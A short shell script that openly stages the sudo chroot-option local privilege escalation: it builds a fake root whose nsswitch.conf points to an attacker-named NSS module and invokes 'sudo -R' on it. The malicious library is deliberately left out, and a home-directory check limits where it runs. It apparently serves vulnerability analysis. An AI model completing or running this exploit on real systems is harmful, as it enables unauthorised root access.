#!/bin/sh
# SPDX-License-Identifier: MIT
# sudo's chroot option as an exploit (sudo 1.9.14 to 1.9.17): sudo reads the
# name service configuration inside the root it is given, so a root the
# user built makes sudo load a library of the user's as root.  The library
# named here is absent: only the staging and the call are made.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
stage=/tmp/stage.$$
mkdir -p "$stage/etc" "$stage/libnss_"
echo 'passwd: /stage1 files' > "$stage/etc/nsswitch.conf"
cp /etc/group "$stage/etc/" 2>/dev/null
sudo -R "$stage" id > /dev/null 2>&1
rm -rf "$stage"
exit 0
